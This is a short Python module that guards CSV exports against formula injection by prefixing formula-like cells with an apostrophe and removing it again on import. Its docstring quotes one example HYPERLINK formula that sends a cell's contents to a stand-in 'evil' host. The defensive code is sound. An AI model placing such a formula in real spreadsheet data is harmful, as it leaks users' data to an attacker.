"""CSV cells that a spreadsheet program shows as text, never runs as a formula.

Excel, WPS and LibreOffice run a cell that starts with ``= + - @`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1,"点此")`` typed into a
title would run on the county office's computer. A leading apostrophe makes them show the
text as typed (OWASP's CSV-injection advice); ``csv_uncell`` takes it off again when our
own export is imported back, so the round trip is lossless.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The value as a CSV cell: text that starts like a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_uncell(text: str) -> str:
    """The text of a cell written by `csv_cell`."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
